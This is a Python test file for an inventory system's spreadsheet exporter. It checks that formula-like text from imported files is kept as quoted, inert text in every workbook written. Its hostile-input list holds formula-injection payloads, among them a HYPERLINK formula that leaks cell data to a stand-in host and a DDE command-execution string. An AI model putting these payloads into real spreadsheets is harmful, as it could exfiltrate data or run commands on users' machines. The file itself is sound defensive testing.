"""Output safety: text that came from a file never becomes a formula in a workbook we write.

Every file kind is posted with formula-like text (``=``, ``+``, ``-``, ``@``, tab, CR, LF, after leading spaces
too) in every column that takes text, codes included (a serial may not start with a sign: the parser refuses
it), and one file of each kind is rejected with such text in every column; each workbook written is reopened: no
formula anywhere but the writers' own totals, and every text cell that would start a formula is kept exactly as
it came, as a string cell with Excel's quote prefix (never run as a formula, text still when edited). The
builder itself is checked the same way for every column kind.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hostile_books import shared_strings_book
from hostile_support import files_under
from support.invariants import check_invariants
from workbook_checks import _cells, assert_output_safe

from serialtrack.exporters.xlsx import ColumnSpec, Link, WorkbookBuilder, internal_link

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "\n=1+1", "   =cmd|' /C calc'!A0", " \t@x"]


def workbook(path: Path, header: list[str], rows: list[list[Any]], *,
             title: list[list[Any]] | None = None) -> Path:
    """Every str is written as a text cell (openpyxl would store ``=F1`` as a formula: a clerk typing it into
    Excel gets text only if the column is Text, which is what we model)."""
    return shared_strings_book(path, [*(title or []), header, *rows], sheet="Sheet1")


def _unsafe_cells(path: Path) -> list[str]:
    """Formula-like text cells without the quote prefix (a spreadsheet could run them once edited)."""
    quoted = [False]
    return [f"{sheet}!{coordinate}: {value!r}" for sheet, coordinate, value, kind in _cells(path, quoted=quoted)
            if kind != "f" and isinstance(value, str) and value.lstrip(" ").startswith(TRIGGERS)
            and not (kind == "s" and quoted[0])]


def _formula_like_text(path: Path) -> list[str]:
    quoted = [False]
    found = [value.replace("_x000D_", "\r") if isinstance(value, str) else value  # openpyxl read-only escapes
             for _, _, value, kind in _cells(path, quoted=quoted) if kind == "s" and quoted[0]]
    return [v for v in found if isinstance(v, str) and v.lstrip(" ").startswith(TRIGGERS)]


def _check_workbook(path: Path) -> None:
    assert_output_safe(path)
    assert not _unsafe_cells(path), _unsafe_cells(path)


def _ingest(cli, path: Path, kind: str, expect: int = 0) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    [out] = cli.ingest(path, kind=kind, expect=expect)
    assert out["status"] == ("posted" if expect == 0 else "rejected"), out["errors"]
    _check_workbook(Path(out["output"]))
    return out


def test_every_kind_posted_with_formula_text_in_every_text_column(cli, home: Path, tmp_path: Path,
                                                                  db_url: str) -> None:
    h = HOSTILE
    _ingest(cli, workbook(tmp_path / "items.xlsx", ["Item Code", "Description", "Serialized", "UOM"],
                          [["=F1", h[0], "Y", h[3]], ["+P1", h[2], "N", h[4]]]), "items")
    _ingest(cli, workbook(tmp_path / "po.xlsx", ["PO #", "Vendor", "Office", "Item", "Qty", "Unit Cost"],
                          [["=PO1", h[3], "-Main", "=F1", 5, 10], ["=PO1", h[3], "-Main", "+P1", 5, 1]]),
            "purchase_orders")
    _ingest(cli, workbook(tmp_path / "so.xlsx", ["SO #", "Customer", "Office", "Item", "Qty", "Unit Price"],
                          [["+SO1", h[0], "-Main", "=F1", 3, 20], ["+SO1", h[7], "-Main", "+P1", 3, 2]]),
            "sales_orders")
    _ingest(cli, workbook(tmp_path / "pl.xlsx", ["PO", "Item", "Qty", "Serials", "Description", "Packing List",
                                                 "Bin", "Mfr Lot"],
                          [["=PO1", "=F1", 3, "S1, S2, S3", h[1], h[7], "@BIN", h[5]],
                           ["=PO1", "+P1", 3, None, h[6], h[8], "@BIN", None]]), "receiving")
    _ingest(cli, workbook(tmp_path / "ship.xlsx", ["SO #", "Item", "Qty", "Serials", "Carrier", "Tracking"],
                          [["+SO1", "=F1", 1, "S1", h[0], h[3]], ["+SO1", "+P1", 1, None, h[2], h[1]]]),
            "shipping")
    _ingest(cli, workbook(tmp_path / "ret.xlsx", ["SO", "Item", "Serial", "Disposition", "Reason"],
                          [["+SO1", "=F1", "S1", "restock", h[0]]]), "returns")
    _ingest(cli, workbook(tmp_path / "count.xlsx", ["Office", "Bin", "Item", "Serial"],
                          [["-Main", "@BIN", "=F1", "S2"]]), "counts")
    serial = cli.json("serial", "S1")
    assert (serial["item_code"], serial["status"]) == ("=F1", "in_stock")
    for path in files_under(home / "outbox"):
        _check_workbook(path)
    check_invariants(db_url)


COLUMNS_BY_KIND = {
    "items": ["Item Code", "Description", "Serialized", "Track Mfr Lot", "Next Serial", "Est Unit Cost", "UOM",
              "Serial Pattern"],
    "purchase_orders": ["PO #", "Vendor", "Office", "Item", "Qty", "Unit Cost", "Order Date"],
    "sales_orders": ["SO #", "Customer", "Office", "Item", "Qty", "Unit Price", "Order Date"],
    "receiving": ["PO", "Item", "Qty", "Serials", "Description", "Packing List", "Received Date", "Bin", "Mfr Lot"],
    "shipping": ["SO", "Item", "Qty", "Serials", "Description", "Ship Date", "Carrier", "Tracking"],
    "returns": ["SO", "Item", "Serials", "Disposition", "Reason", "Return Date"],
    "counts": ["Office", "Bin", "Item", "Serials", "Count Date"],
}


@pytest.mark.parametrize("kind", sorted(COLUMNS_BY_KIND))
def test_every_kind_rejected_with_formula_text_in_every_column(cli, tmp_path: Path, kind: str) -> None:
    header = COLUMNS_BY_KIND[kind]
    rows = [[HOSTILE[(r + c) % len(HOSTILE)] for c in range(len(header))] for r in range(len(HOSTILE))]
    out = _ingest(cli, workbook(tmp_path / f"{kind}.xlsx", header, rows, title=[["=TITLE()"], ["@PO #: =1"]]),
                  kind, expect=1)
    assert out["errors"]


@pytest.mark.parametrize("kind", ["text", "int", "money", "decimal", "date", "datetime", "link", "percent",
                                  "general"])
def test_builder__formula_text_in_a_column_of_each_kind_is_written_as_neutral_text(tmp_path: Path,
                                                                                  kind: str) -> None:
    path = tmp_path / f"{kind}.xlsx"
    # A link column only ever holds links we build (rejected.py); their shown text may come from a file.
    values = [Link(internal_link("T", "A1"), text) if kind == "link" else text for text in HOSTILE]
    with WorkbookBuilder(path) as book:
        book.add_table("T", [ColumnSpec("Value", kind)], [[v] for v in values],  # type: ignore[arg-type]
                       title_rows=["=1+1", "@title"])
    _check_workbook(path)
    assert sorted(_formula_like_text(path)) == sorted([*HOSTILE, "=1+1", "@title"])  # exactly as given
